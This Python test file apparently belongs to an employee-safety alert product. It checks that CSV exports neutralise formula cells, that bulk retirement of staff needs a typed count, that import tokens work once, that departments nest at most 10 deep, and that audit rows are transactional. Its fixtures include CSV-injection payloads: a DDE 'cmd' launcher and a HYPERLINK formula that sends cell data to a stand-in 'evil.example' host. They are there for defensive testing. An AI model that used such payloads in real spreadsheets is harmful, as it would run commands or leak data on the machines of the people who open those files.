"""What the organisation's CSV files must not do (issue 16): a cell that starts like a formula
is written so a spreadsheet shows it as text (every CSV the product writes) and reads back as
it was; an import retiring many people needs the count typed; a confirmed console import works
once; departments nest at most 10 deep. And each import writes its audit row in its own
transaction (issue 15), through the console and through `python -m bot employees`."""

from __future__ import annotations

import csv
import io
import re

import pytest
from tortoise import connections

from domain.actors import Actor
from domain.alerts import start_alert
from domain.answers import submit_answer
from domain.spreadsheet import restore_cell, safe_cell
from models import AnswerChannel, AuditEntry, Employee, Template
from models.sql import is_postgres
from tests.conftest import make_company, make_console_user
from tests.test_cli import run

HEADER = "code,name,department,email,role\n"
FORMULAS = [
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "+81 3 1234",
    "-2",
    "\tinside",
    "\rback",
    "'=already quoted",
    "''@twice",
]
PLAIN = ["山田 太郎", "O'Brien", "'", "a=b", "", "1+1"]
DEEP = "/".join(f"階層{i}" for i in range(1, 12))  # 11 levels


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_starting_like_a_formula_is_quoted_and_reads_back(text):
    written = safe_cell(text)
    assert written == "'" + text
    assert restore_cell(written) == text


@pytest.mark.parametrize("text", PLAIN)
def test_a_plain_cell_is_written_as_it_is(text):
    assert safe_cell(text) == text
    assert restore_cell(text) == text


# Through the command line: export, then import of the export, changes nothing.


async def test_exported_formulas_are_neutralised_and_the_export_imports_unchanged(db, tmp_path):
    names = [n for n in FORMULAS if not n.startswith(("\t", "\r"))]  # the import trims those
    people = [(f"E{i}", name) for i, name in enumerate(names)]
    await make_company({"本社": [], "-総務部": people}, parents={"-総務部": "本社"})

    exported = tmp_path / "out.csv"
    code, _, err = await run("employees", "export", str(exported), env={"DATABASE_URL": db})
    assert code == 0, err
    cells = list(csv.reader(io.StringIO(exported.read_bytes().decode("utf-8-sig"))))[1:]
    assert sorted(row[1] for row in cells) == sorted("'" + n for n in names)
    assert {row[2] for row in cells} == {"本社/-総務部"}  # starts with 本: not a formula

    code, out, err = await run("employees", "import", str(exported), env={"DATABASE_URL": db})
    assert code == 0, err
    assert f"new 0, updated 0, unchanged {len(names)}" in out
    assert sorted(await Employee.all().values_list("name", flat=True)) == sorted(names)


async def test_the_console_answers_csv_neutralises_an_answer_message(console, bot):
    company = await make_company({"総務部": [("E1", "山田 太郎")]})
    await Employee.filter(code="E1").update(name="=1+2")
    template = await Template.get(key="earthquake")
    alert = (await start_alert(Actor.cli(), template, drill=True)).alert
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    choices = {"本人": "無事", "家族": "全員無事", "家屋": "被害なし", "出社": "可能"}
    await submit_answer(alert.id, company.employees["E1"], choices, evil, AnswerChannel.LIFF)
    await make_console_user("boss", "maintainer")
    await console.sign_in("boss")
    async with console.session.get(console.url(f"/console/alerts/{alert.id}/answers.csv")) as r:
        assert r.status == 200
        rows = list(csv.reader(io.StringIO((await r.read()).decode("utf-8-sig"))))
    assert rows[1][2] == "'=1+2" and rows[1][8] == "'" + evil


# Departments nest at most 10 deep, in the import and in the console's edit form.


async def test_an_import_naming_a_department_11_deep_is_refused_naming_the_row(db, tmp_path):
    path = tmp_path / "deep.csv"
    path.write_text(HEADER + "E1,山田,本社,,\nE2,佐藤," + DEEP + ",,\n", encoding="utf-8")
    code, _, err = await run("employees", "import", str(path), env={"DATABASE_URL": db})
    assert code == 2
    assert "3行目 department: 部署の階層は10段までにしてください" in err
    assert await Employee.all().count() == 0


async def test_the_edit_form_refuses_a_department_11_deep(console, bot):
    company = await make_company({"総務部": [("E1", "山田 太郎")]})
    await make_console_user("boss", "maintainer")
    await console.sign_in("boss")
    employee = company.employees["E1"]
    form = {"name": "山田 太郎", "department": DEEP, "email": "", "role": "member", "active": "1"}
    form["csrf_token"] = await console.csrf()
    url = console.url(f"/console/employees/{employee.id}")
    async with console.session.post(url, data=form, allow_redirects=False) as r:
        assert r.status == 200 and "部署の階層は10段までにしてください" in await r.text()
    await employee.refresh_from_db()
    assert employee.department_id == company.departments["総務部"].id
    form["department"] = DEEP.rsplit("/", 1)[0]  # 10 levels
    async with console.session.post(url, data=form, allow_redirects=False) as r:
        assert r.status == 303
    assert await AuditEntry.filter(
        via="console", actor="boss", action="employee_update", result="ok"
    ).exists()


# Retiring many people needs the count typed.


FIVE = HEADER + "".join(f"E{i:02},社員{i},総務部,,\n" for i in range(1, 6))


async def twelve(tmp_path) -> str:
    """Twelve active employees; a file listing the first five (retiring seven, 58 %)."""
    await make_company({"総務部": [(f"E{i:02}", f"社員{i}") for i in range(1, 13)]})
    path = tmp_path / "five.csv"
    path.write_text(FIVE)
    return str(path)


async def test_the_cli_refuses_to_retire_many_unless_the_count_is_confirmed(db, tmp_path):
    path = await twelve(tmp_path)
    env = {"DATABASE_URL": db}
    code, out, err = await run("employees", "import", path, "--deactivate-missing", "--dry-run",
                               env=env)  # fmt: skip
    assert code == 0 and "--confirm-deactivate 7" in out
    code, _, err = await run("employees", "import", path, "--deactivate-missing", env=env)
    assert code == 2 and "deactivate 7 of 12" in err and "--confirm-deactivate 7" in err
    code, _, err = await run("employees", "import", path, "--deactivate-missing",
                             "--confirm-deactivate", "6", env=env)  # fmt: skip
    assert code == 2
    assert await Employee.filter(active=True).count() == 12
    code, out, err = await run("employees", "import", path, "--deactivate-missing",
                               "--confirm-deactivate", "7", env=env)  # fmt: skip
    assert code == 0, err
    assert "deactivated 7" in out
    assert await Employee.filter(active=True).count() == 5


async def test_the_cli_retires_a_few_without_asking(db, tmp_path):
    await make_company({"総務部": [(f"E{i:02}", f"社員{i}") for i in range(1, 8)]})
    path = tmp_path / "two.csv"  # retiring 5 of 7: more than 10 %, but not more than 5 people
    path.write_text(HEADER + "E01,社員1,総務部,,\nE02,社員2,総務部,,\n")
    code, out, err = await run("employees", "import", str(path), "--deactivate-missing",
                               env={"DATABASE_URL": db})  # fmt: skip
    assert code == 0, err
    assert "deactivated 5" in out


async def preview(console, text: str, deactivate_missing: bool = True) -> str:
    """Upload a file to the import form; the preview page."""
    data = {"file": io.BytesIO(text.encode()), "csrf_token": await console.csrf()}
    if deactivate_missing:
        data["deactivate_missing"] = "1"
    async with console.session.post(console.url("/console/employees/import"), data=data) as r:
        assert r.status == 200
        return await r.text()


async def confirm(console, token: str, **extra: str) -> str:
    form = {"token": token, "csrf_token": await console.csrf(), **extra}
    async with console.session.post(
        console.url("/console/employees/import/confirm"), data=form
    ) as r:
        assert r.status == 200
        return await r.text()


def token_of(html: str) -> str:
    return re.search(r'name="token" value="([^"]+)"', html).group(1)


async def test_the_console_asks_for_the_count_before_retiring_many(console, bot, tmp_path):
    await twelve(tmp_path)
    await make_console_user("boss", "maintainer")
    await console.sign_in("boss")
    html = await preview(console, FIVE)
    assert 'id="count-deactivated">7<' in html and 'name="confirm_deactivate"' in html
    token = token_of(html)
    html = await confirm(console, token)
    assert "人数 7 を入力してください" in html and "取り込みました" not in html
    html = await confirm(console, token_of(html), confirm_deactivate="8")
    assert "人数 7 を入力してください" in html
    assert await Employee.filter(active=True).count() == 12
    html = await confirm(console, token, confirm_deactivate="7")
    assert "取り込みました" in html
    assert await Employee.filter(active=True).count() == 5


async def test_a_confirmed_console_import_works_once(console, bot):
    await make_company({"総務部": [("E01", "社員1")]})
    await make_console_user("boss", "maintainer")
    await console.sign_in("boss")
    two = HEADER + "E01,社員1,総務部,,\nE02,社員2,総務部,,\n"
    token = token_of(await preview(console, two, deactivate_missing=False))
    assert "取り込みました" in await confirm(console, token)
    await Employee.filter(code="E02").update(name="改名済み")  # changed since the import
    html = await confirm(console, token)  # the same form sent again
    assert "実行済み" in html and "取り込みました" not in html
    assert (await Employee.get(code="E02")).name == "改名済み"
    assert await AuditEntry.filter(action="employees_import", result="ok").count() == 1


# The import's audit row is written in the import's transaction, through either face.


async def refuse_ok_rows(action: str) -> None:
    """Make the database refuse the "ok" audit row of one action (a crash at that moment)."""
    if is_postgres():
        script = (
            "CREATE FUNCTION refuse_ok() RETURNS trigger AS $$ BEGIN"
            " RAISE EXCEPTION 'audit row refused'; END $$ LANGUAGE plpgsql;"
            " CREATE TRIGGER refuse_ok BEFORE INSERT ON audit_entry FOR EACH ROW"
            f" WHEN (NEW.action = '{action}' AND NEW.result = 'ok') EXECUTE FUNCTION refuse_ok()"
        )
    else:
        script = (
            "CREATE TRIGGER refuse_ok BEFORE INSERT ON audit_entry"
            f" WHEN NEW.action = '{action}' AND NEW.result = 'ok'"
            " BEGIN SELECT RAISE(ABORT, 'audit row refused'); END"
        )
    await connections.get("default").execute_script(script)


async def test_a_cli_import_whose_audit_row_fails_leaves_no_change(db, tmp_path):
    await refuse_ok_rows("employees_import")
    path = tmp_path / "one.csv"
    path.write_text(HEADER + "E1,山田,本社,,\n")
    code, _, _ = await run("employees", "import", str(path), env={"DATABASE_URL": db})
    assert code != 0
    assert await Employee.all().count() == 0
    rows = await AuditEntry.filter(action="employees_import").values_list("via", "result")
    assert rows == [("cli", "failed")]


async def test_a_console_import_whose_audit_row_fails_leaves_no_change(console, bot):
    await make_console_user("boss", "maintainer")
    await console.sign_in("boss")
    token = token_of(await preview(console, HEADER + "E1,山田,本社,,\n", deactivate_missing=False))
    await refuse_ok_rows("employees_import")
    form = {"token": token, "csrf_token": await console.csrf()}
    async with console.session.post(
        console.url("/console/employees/import/confirm"), data=form
    ) as r:
        assert r.status == 500
    assert await Employee.all().count() == 0
    rows = await AuditEntry.filter(action="employees_import").values_list("via", "result")
    assert rows == [("console", "failed")]
